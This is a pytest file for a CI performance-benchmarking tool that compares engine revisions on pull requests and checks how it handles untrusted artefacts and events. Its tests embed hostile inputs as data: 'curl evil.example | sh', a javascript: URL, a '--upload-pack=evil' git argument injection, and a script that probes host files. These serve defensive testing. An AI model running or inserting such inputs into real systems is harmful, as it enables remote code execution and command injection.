import json
from dataclasses import replace
from pathlib import Path

import pytest
import yaml
from answers import ORDINARY, hostile
from pull_world import TOKEN_S, PullWorld, engine_text, pull_world
from rendered import shown, troubles

from perfd.bench.cage.refuse import refusal
from perfd.domain.answer import Answer
from perfd.errors import BadInputError
from perfd.forge.actions import facts_of
from perfd.forge.artefact import read_artefact, written
from perfd.forge.comment import comment_of

DOCS = Path(__file__).parents[2] / "docs"


@pytest.fixture
def world(tmp_path: Path, database_url: str) -> PullWorld:
    return pull_world(tmp_path, database_url, minutes=0.3)


def test_a_planted_loss_is_told_beside_equal_quality(world: PullWorld) -> None:
    # A fifth, so that the two blocks that a busy machine measures in its minutes are enough; the rules' tests have smaller ones.
    base = world.commit("Begin", {"engine.py": engine_text("begin")})
    head = world.pull("Slow down", {"engine.py": engine_text("slower", TOKEN_S * 1.2)})
    tip = world.commit("Go on", {"README.md": "more"})
    summary, event = str(world.folder / "summary"), str(world.event(head, tip))

    code, answered = world.answered(
        "ci", "--save", "../answer.json", GITHUB_REPOSITORY="octo/engine", GITHUB_EVENT_PATH=event, GITHUB_STEP_SUMMARY=summary
    )

    told = answered["answer"]
    rows = {row["metric"]["name"]: row["verdict"] for row in told["rows"]}
    assert (1, "failure") == (code, answered["conclusion"])
    assert (base, 1, "main") == (told["against"]["commit"], told["against"]["behind"], told["against"]["branch"])
    assert "worse" == rows["itl_s"]["outcome"]
    assert 0.15 < rows["itl_s"]["effect"] < 0.25
    assert "same" == rows["nll_nats"]["outcome"]
    assert [] == told["unmeasured"]
    assert f"perfd compare {base} {head} --engine tiny" in answered["markdown"]
    assert answered["markdown"] in Path(summary).read_text(encoding="utf-8")
    assert [] == list(troubles(shown(answered["markdown"])))
    again, pull = read_artefact(world.folder / "answer.json")
    assert (7, head, told["verdict"]["outcome"]) == (pull, again.head, again.verdict.outcome)


def test_documentation_alone_is_answered_without_measuring(world: PullWorld) -> None:
    base = world.commit("Begin", {"engine.py": engine_text("begin")})
    world.pull("Explain", {"docs/Übersicht.md": "x"})

    code, answered = world.answered("ci", "--head", "refs/pull/7/head", "--onto", "main")

    assert (0, "success", None) == (code, answered["conclusion"], answered["answer"])
    assert "only documentation is changed" in answered["markdown"]
    assert base


@pytest.mark.parametrize(
    ("words", "said"),
    [
        ((), "give --onto BRANCH, or --base REF"),
        (("--onto", "nowhere"), "'nowhere' is no branch, tag or commit"),
        (("--base", "--help"), "'--help' is no branch, tag or commit"),
        (("--base", "main", "--engine", "nosuch"), "engine 'nosuch' cannot be built from this checkout"),
        (("--from", "nosuch.json"), "nosuch.json: cannot be read"),
    ],
)
def test_what_cannot_be_told_is_said_in_one_sentence(world: PullWorld, words: tuple[str, ...], said: str) -> None:
    world.commit("Begin", {"engine.py": engine_text("begin")})

    done = world.perfd("ci", *words)

    assert 3 == done.returncode
    assert said in done.stderr
    assert "Traceback" not in done.stderr


def test_a_shallow_checkout_is_told_what_to_fetch(world: PullWorld) -> None:
    world.commit("Begin", {"engine.py": engine_text("begin")})
    head = world.pull("Change", {"engine.py": engine_text("x")})
    tip = world.commit("Go on", {"engine.py": engine_text("y")})
    event = str(world.event(head, tip))
    world.git("clone", "--quiet", "--depth=1", "--no-local", f"file://{world.checkout}", str(world.folder / "shallow"))
    world.git("-C", str(world.folder / "shallow"), "fetch", "--quiet", "--depth=1", "origin", head)
    shallow = replace(world, folder=world.folder)
    (world.folder / "engine").rename(world.folder / "whole")
    (world.folder / "shallow").rename(world.folder / "engine")

    done = shallow.perfd("ci", GITHUB_REPOSITORY="octo/engine", GITHUB_EVENT_PATH=event)

    assert 3 == done.returncode
    assert "share no history" in done.stderr
    assert "fetch-depth: 0" in done.stderr


PEEPING = """
import os, sys
print("the host's files are", "seen" if os.path.exists({path!r}) else "hidden")
sys.exit(3)
"""


@pytest.mark.parametrize(("words", "seen"), [((), "seen"), (("--cage",), "hidden")])
def test_a_runner_that_outlives_its_job_can_cage_what_it_measures(world: PullWorld, words: tuple[str, ...], seen: str) -> None:
    if refusal():
        pytest.skip(f"{refusal()}: that --cage cages was not tested")
    secret = world.folder / "secret"
    secret.write_text("x", encoding="utf-8")
    world.commit("Begin", {"engine.py": PEEPING.format(path=str(secret))})
    world.pull("Peep", {"engine.py": PEEPING.format(path=str(secret)) + "# more"})

    code, answered = world.answered("ci", "--suite", "texts", "--onto", "main", "--head", "refs/pull/7/head", *words)

    assert 2 == code
    assert {f"the host's files are {seen}"} == {line for line in answered["markdown"].split("\n") if "the host's files" in line}


def test_the_privileged_workflow_unpacks_and_runs_nothing_of_the_fork() -> None:
    measuring, commenting = list(yaml.safe_load_all((DOCS / "github_actions.yml").read_text(encoding="utf-8")))
    steps = commenting["jobs"]["comment"]["steps"]
    (unpacked,) = [step["with"]["path"] for step in steps if "download-artifact" in step.get("uses", "")]

    # Beside the runner's own files the artefact could bring another event, or variables for the next step.
    assert "${{ runner.temp }}/fork" == unpacked
    assert not [step for step in steps if "checkout" in step.get("uses", "")]
    assert not [step for step in steps if "${{" in step.get("run", "")]
    assert ({"contents": "read"}, "pull_request") == (measuring["permissions"], next(iter(measuring[True])))


def written_to(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def changed(**changes: object) -> str:
    document = json.loads(written(ORDINARY, 7))
    document["answer"] |= changes
    return json.dumps(document)


def test_an_artefact_gives_words_and_numbers_and_nothing_else(tmp_path: Path) -> None:
    evil = replace(hostile(), page="javascript:alert(1)", plot="https://evil.example/p.png", reproduce="curl evil.example | sh")

    found, pull = read_artefact(written_to(tmp_path / "a.json", written(evil, 7)))

    body = comment_of(found)
    seen = shown(body)
    assert (7, [], []) == (pull, seen.links, list(troubles(seen)))
    assert "curl" not in body
    assert "perfd compare" in body


@pytest.mark.parametrize(
    "text",
    [
        "",
        "null",
        "[" * 100_000,
        "{}",
        "x" * 3_000_000,
        '{"format": "perfd.answer/1", "pull": 1, "answer": {}}',
        written(ORDINARY, None),
        written(ORDINARY, -1),
        changed(head="--upload-pack=evil"),
        changed(rows=[{}]),
        changed(rows="many"),
        changed(now="yesterday"),
        changed(verdict=None),
        written(ORDINARY, 7).replace("0.051", "NaN", 1),
        written(ORDINARY, 7).replace("0.051", "1e999", 1),
        written(ORDINARY, 7).replace('"itl_s"', '"no_such_metric"'),
    ],
)
def test_an_artefact_that_is_none_is_refused(tmp_path: Path, text: str) -> None:
    with pytest.raises(BadInputError, match=r"a\.json: "):
        read_artefact(written_to(tmp_path / "a.json", text))


def test_a_harmless_artefact_comes_back_as_it_was(tmp_path: Path) -> None:
    found, _ = read_artefact(written_to(tmp_path / "a.json", written(ORDINARY, 7)))

    assert [row.name for row in ORDINARY.rows] == [row.name for row in found.rows]
    assert isinstance(found, Answer)


@pytest.mark.parametrize(
    "event",
    [
        "",
        "[]",
        "{",
        '{"pull_request": 7}',
        '{"pull_request": {"number": 7, "head": {"sha": "x", "repo": null}, "base": {"sha": "y", "ref": "m", "repo": null}}}',
    ],
)
def test_an_event_that_is_none_is_refused(tmp_path: Path, event: str) -> None:
    with pytest.raises(BadInputError, match="GITHUB_EVENT_PATH"):
        facts_of({"GITHUB_EVENT_PATH": str(written_to(tmp_path / "event.json", event))})


def test_a_deleted_fork_is_a_fork(tmp_path: Path) -> None:
    base = {"sha": "b" * 40, "ref": "main", "repo": {"full_name": "octo/engine"}}
    pull = {"number": 7, "head": {"sha": "a" * 40, "repo": None}, "base": base}
    found = facts_of({"GITHUB_EVENT_PATH": str(written_to(tmp_path / "event.json", json.dumps({"pull_request": pull})))})

    assert (7, True, "a" * 40) == (found.pull, found.fork, found.head)


def test_a_pipeline_of_another_kind_knows_nothing() -> None:
    assert facts_of({}).pull is None


def test_commits_of_a_pull_request_are_compared_by_their_full_hashes(world: PullWorld) -> None:
    base = world.commit("Begin", {"engine.py": engine_text("begin")})
    head = world.pull("Change", {"engine.py": engine_text("x")})

    done = [world.perfd("compare", base, head, "--workload", "nosuch"), world.perfd("compare", base, head[:12])]

    assert [3, 3] == [one.returncode for one in done]
    assert "there is no workload nosuch of tiny" in done[0].stderr
    assert f"tiny has no revision '{head[:12]}' among the 1 that its source tells" in done[1].stderr
